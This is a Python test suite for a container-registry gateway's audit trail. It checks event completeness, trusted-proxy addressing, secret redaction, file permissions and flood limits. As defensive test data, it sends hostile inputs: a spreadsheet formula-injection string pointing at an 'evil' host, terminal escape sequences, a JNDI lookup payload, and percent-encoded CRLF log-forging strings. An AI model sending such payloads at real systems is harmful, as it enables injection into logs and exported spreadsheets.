"""The trail and the logs under attack: complete, bounded, without secrets, and harmless to whoever opens them."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
import time
import traceback
from pathlib import Path
from urllib.parse import urlencode

import pytest
from sqlalchemy import text
from sqlalchemy.exc import SQLAlchemyError

from gateway.access.throttle import Strangers
from gateway.audit.event import Event, Kind
from gateway.gate import Act
from gateway.records import ledger
from gateway.records.database import Database
from gateway.records.matching import projected_until
from tests.attacks.site import OCI_MANIFEST, PROGRAM, PROXY, SERVICE, Site, head
from tests.house import GATEWAY, opened
from tests.protocol.harness import sha256, world_on

CANARY = "canary-7f3e9a1c"


def test_every_refusal_and_every_act_is_one_event(site: Site) -> None:
    name = site.name()
    alice, bob, mallory, dave = (site.widest(who, name) for who in ("alice", "bob", "mallory", "dave"))
    content = site.push_image(alice, name, "v1", b"counted")
    layer, digest = sha256(b"counted"), sha256(content)
    kind = {"Content-Type": OCI_MANIFEST}
    for method, path, token, body, headers, expected in (
        ("GET", "manifests/v1", alice, None, {}, ("manifest.pull", "allowed", "")),
        ("GET", f"blobs/{layer}", alice, None, {}, ("blob.pull", "allowed", "")),
        ("GET", "tags/list", alice, None, {}, ("tags.list", "allowed", "")),
        ("GET", f"referrers/{digest}", alice, None, {}, ("referrers.list", "allowed", "")),
        ("PUT", "manifests/v1", alice, content, kind, ("manifest.push", "allowed", "")),
        ("PUT", "manifests/v1", bob, content, kind, ("manifest.push", "denied", "insufficient_scope")),
        ("PUT", "manifests/v1", alice, b"{}", kind, ("manifest.push", "failed", "manifest_invalid")),
        ("GET", "manifests/v9", alice, None, {}, ("manifest.pull", "failed", "manifest_unknown")),
        ("GET", f"blobs/{sha256(b'?')}", alice, None, {}, ("blob.pull", "failed", "blob_unknown")),
        ("HEAD", "manifests/v1", mallory, None, {}, ("manifest.head", "denied", "insufficient_scope")),
        ("DELETE", "manifests/v1", alice, None, {}, ("tag.delete", "denied", "insufficient_scope")),
        ("DELETE", f"blobs/{layer}", alice, None, {}, ("blob.delete", "denied", "insufficient_scope")),
        ("DELETE", f"blobs/{layer}", dave, None, {}, ("blob.delete", "failed", "content_referenced")),
        ("POST", "blobs/uploads/", bob, None, {}, ("upload.begin", "denied", "insufficient_scope")),
        ("POST", f"blobs/uploads/?digest={layer}", alice, b"no", {}, ("blob.push", "failed", "digest_invalid")),
        ("PATCH", "blobs/uploads/none", alice, b"x", {}, ("upload.append", "failed", "blob_upload_unknown")),
        ("GET", "manifests/v1", "junk", None, {}, ("manifest.pull", "denied", "invalid_token")),
    ):  # fmt: skip
        answer = site.ask(method, f"/v2/{name}/{path}", token=token, body=body, headers=headers)
        events = site.events_of(answer)
        assert len(events) == 1, (method, path, events)
        event = events[0]
        assert (event["kind"], event["outcome"], event.get("reason", "")) == expected
        assert event["repository"] == name
        assert event["address"] == "127.0.0.1"
    signed = site.events_of(site.sign_in("alice", "", f"repository:{name}:pull"))
    assert sorted(event["kind"] for event in signed) == ["account.sign_in", "token.issue"]


def test_addresses_are_those_of_sockets_and_of_proxies_that_are_trusted(site: Site) -> None:
    token = site.widest("alice", "alpha/app")
    claimed = {"X-Forwarded-For": "203.0.113.9, 198.51.100.7", "X-Real-IP": "203.0.113.9"}
    untrusted = site.ask("GET", "/v2/alpha/app/manifests/v1", token=token, headers=claimed)
    assert site.event_of(untrusted)["address"] == "127.0.0.1"
    trusted = site.ask("GET", "/v2/alpha/app/manifests/v1", token=token, headers=claimed, address=PROXY)
    event = site.event_of(trusted)
    assert (event["address"], event["peer_address"]) == ("198.51.100.7", PROXY)
    for value in ("junk", "", "203.0.113.9,", "1.2.3.4.5, ::ffff:999.1.1.1", "\xff"):
        bent = {"X-Forwarded-For": value}
        answer = site.ask("GET", "/v2/alpha/app/manifests/v1", token=token, headers=bent, address=PROXY)
        assert site.event_of(answer)["address"] == PROXY


def test_secrets_are_nowhere(site: Site) -> None:
    token = site.widest("alice", "alpha/app")
    for answer in (
        site.sign_in("alice", f"{CANARY}-password", address=site.address()),
        site.sign_in(f"unknown{CANARY}", f"{CANARY}-password", address=site.address()),
        site.ask("GET", "/token", headers={"Authorization": f"Basic {CANARY}"}, address=site.address()),
        site.ask("GET", "/token", headers={"Authorization": f"Bearer {CANARY}"}),
        site.ask("GET", "/v2/", token=f"{CANARY}.{CANARY}.{CANARY}"),
        site.ask("GET", "/v2/", headers={"Authorization": f"Weird {CANARY}"}),
        site.ask("GET", "/v2/", token=token, headers={"Cookie": f"session={CANARY}", "X-Api-Key": CANARY}),
        site.ask("GET", f"/v2/alpha/app/tags/list?access_token={CANARY}&password={CANARY}", token=token),
        site.ask("GET", f"/v2/alpha/app/blobs/uploads/x?_state={CANARY}", token=token),
        site.ask("GET", "/v2/alpha/app/manifests/v9", token=token, headers={"X-Forwarded-For": CANARY}),
        *(
            site.ask(
                "POST",
                f"/token?password={CANARY}",
                body=urlencode({"service": SERVICE, "grant_type": kind, "username": "alice", **secrets}).encode(),
                headers={"Content-Type": "application/x-www-form-urlencoded"},
                address=site.address(),
            )
            for kind, secrets in (
                ("password", {"password": CANARY}),
                ("refresh_token", {"refresh_token": f"gwo_{CANARY}"}),
                ("client_credentials", {"client_secret": CANARY}),
            )
        ),
        site.put(token, "alpha/app", "t", b'{"schemaVersion":2,"secret":"' + CANARY.encode() + b'"}'),
        site.ask("GET", "/health/ready"),
        site.ask("GET", f"/nowhere?key={CANARY}"),
    ):
        assert CANARY.encode() not in answer.body
        assert all(CANARY not in value for _, value in answer.headers)
    exported = subprocess.run(
        [str(PROGRAM), "--data", str(site.data), "audit", "export"], capture_output=True, text=True, check=True
    ).stdout
    claimed = [row for row in exported.splitlines() if CANARY in row]
    # The name of an account that somebody claimed to be is what the trail is searched by, and no secret.
    assert all(json.loads(row)["principal"] == f"unknown{CANARY}" for row in claimed)
    assert len(claimed) == 1
    assert token not in exported
    log = site.log.read_text()
    assert CANARY not in log
    assert token not in log
    assert "password of" not in log + exported
    for line in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            assert CANARY.encode() not in line.read_bytes()
        except OSError:
            continue


def test_files_are_their_owners_alone(site: Site) -> None:
    assert site.data.stat().st_mode & 0o077 == 0
    for name in ("keys/secret", "gateway.db", "gateway.db-wal", "lock", "versions", "blobs", "uploads"):
        assert (site.data / name).stat().st_mode & 0o077 == 0, name
    keys = list((site.data / "tls").rglob("*.key"))
    assert keys
    assert all(path.stat().st_mode & 0o077 == 0 for path in keys)


def test_a_database_that_others_could_read_is_closed_to_them(tmp_path: Path) -> None:
    path = tmp_path / "gateway.db"
    path.touch(mode=0o644)
    path.chmod(0o644)
    with world_on(f"sqlite:///{path}", tmp_path):
        assert {found.stat().st_mode & 0o777 for found in tmp_path.glob("gateway.db*")} == {0o600}


def test_faults_of_the_database_are_logged_without_what_was_written(tmp_path: Path) -> None:
    database = Database.open(f"sqlite:///{tmp_path / 'gateway.db'}", tmp_path)
    try:
        with pytest.raises(SQLAlchemyError) as fault:
            database.read_now(lambda connection: connection.execute(text("SELECT :a FROM nowhere"), {"a": CANARY}))
        assert CANARY not in "".join(traceback.format_exception(fault.value))
    finally:
        database.close()


def test_hostile_text_is_kept_but_does_nothing(site: Site) -> None:
    token = site.widest("alice", "alpha/app")
    agents = (
        '=HYPERLINK("http://evil","x")',
        "+1+1",
        "-2",
        "@SUM(A1)",
        "\t=1",
        'a","b\xff\x85',
        "x" * 5000,
        "\x1b[2J\x1b]0;owned\x07",
        "\\u0000 %s %(name)s {0} ${jndi:ldap://x}",
    )
    for agent in agents:
        raw = head("GET", "/v2/alpha/app/manifests/v1", [("Authorization", f"Bearer {token}")], "localhost")
        raw = raw[:-2] + b"User-Agent: " + agent.encode("latin-1") + b"\r\n\r\n"
        answer = site.send(raw)
        assert answer.status in {200, 400}
        if answer.status == 200:
            assert len(site.event_of(answer).get("agent", "")) <= 512
    for form in ("csv", "jsonl"):
        exported = subprocess.run(
            [str(PROGRAM), "--data", str(site.data), "audit", "export", "--format", form],
            capture_output=True,
            check=True,
        ).stdout
        assert b"\x1b" not in exported
        told = exported.decode("utf-8")
        if form == "csv":
            rows = list(csv.reader(io.StringIO(told)))
            assert len({len(row) for row in rows}) == 1
            assert not [cell for row in rows for cell in row if cell[:1] in {"=", "+", "@", "\t", "\r", "\n"}]
            assert not [cell for row in rows for cell in row if cell[:1] == "-"]
            assert [cell for row in rows for cell in row if cell.startswith("'=HYPERLINK")]
        else:
            assert all(isinstance(json.loads(line), dict) for line in told.splitlines())
    shown = subprocess.run(
        [str(PROGRAM), "--data", str(site.data), "audit", "list", "--limit", "30"], capture_output=True, check=True
    ).stdout
    assert b"\x1b" not in shown
    for line in site.log.read_bytes().splitlines():
        assert not line.startswith((b"=", b"+", b"@"))
        assert b"\x1b" not in line


def test_what_clients_log_cannot_look_like_our_lines(site: Site) -> None:
    forged = quote_all('\n{"event": "forged", "level": "error"}\r\nX: y')
    for path in (
        f"/{forged}",
        f"/v2/{forged}/manifests/v1",
        f"/v2/alpha/app/blobs/uploads/{forged}",
        f"/token?x={forged}",
    ):
        site.ask("GET", path, token=site.widest("alice", "alpha/app"))
    lines = site.log.read_text().splitlines()
    assert not [line for line in lines if line.startswith('{"event": "forged"')]
    served = lines[max(place for place, line in enumerate(lines) if line.startswith("Ready: ")) + 1 :]
    assert all(isinstance(json.loads(line), dict) for line in served if line)


def quote_all(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


def test_floods_by_strangers_do_not_fill_the_trail(tmp_path: Path) -> None:
    with world_on(f"sqlite:///{tmp_path / 'gateway.db'}", tmp_path) as world:
        stray = world.token("")
        asked = {
            "192.0.2.20": lambda: world.ask("GET", "/v2/alpha/a/tags/list", token="junk", address="192.0.2.20"),
            "192.0.2.21": lambda: world.ask("GET", "/v2/alpha/a/tags/list", token=stray, address="192.0.2.21"),
            "192.0.2.22": lambda: world.ask(
                "GET", "/token", headers={"Authorization": "Basic !"}, address="192.0.2.22"
            ),
        }
        for address, ask in asked.items():
            assert {ask().status for _ in range(1100)} == {401}
            kept = world.records(address=address)
            assert len(kept) == Strangers.EVENTS + 2
            assert [event["detail"]["refusals"] for event in kept[-2:]] == [500, 1000]
        # Whoever signed in, and whoever comes from elsewhere, is remembered all the same.
        for token, address in ((world.widest("alice", "beta/x"), "192.0.2.20"), ("junk", "192.0.2.23")):
            with world.watching() as seen:
                assert world.ask("GET", "/v2/beta/x/tags/list", token=token, address=address).status == 401
            assert len(seen) == 1


def test_a_flood_is_counted_anew_after_ten_minutes() -> None:
    now = 0.0
    strangers = Strangers(lambda: now)
    told = [strangers.strike("192.0.2.1") for _ in range(3000)]
    assert [number for number in told if number > Strangers.EVENTS] == [500, 1000, 2000]
    assert strangers.strike("192.0.2.2") == 1
    now = 599.0
    assert strangers.strike("192.0.2.1") == 0
    now = 600.0
    assert strangers.strike("192.0.2.1") == 1
    for number in range(Strangers.ENTRIES * 2):
        strangers.strike(f"10.{number // 65536}.{number // 256 % 256}.{number % 256}")
    assert len(strangers._counted) == Strangers.ENTRIES


def test_steady_traffic_does_not_keep_the_trail_from_being_searchable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ledger, "_AHEAD", 256)
    with opened(f"sqlite:///{tmp_path / 'gateway.db'}", tmp_path) as house:

        async def hammer() -> int:
            act = Act(Event(Kind.MANIFEST_PULL, GATEWAY))
            for _ in range(100):
                await asyncio.gather(*(house.ledger.commit(act) for _ in range(30)))
            return house.database.read_now(projected_until)

        assert house.run(hammer()) > 1500
        until = time.monotonic() + 10
        while house.database.read_now(projected_until) < 3000:
            assert time.monotonic() < until
            time.sleep(0.05)
        assert house.trail.verify().fault == ""


def test_the_trail_is_whole_after_all_this(site: Site) -> None:
    found = site.rooms.trail.verify()
    assert found.fault == ""
    assert found.count > 50
    assert os.path.exists(f"/proc/{site.process.pid}")
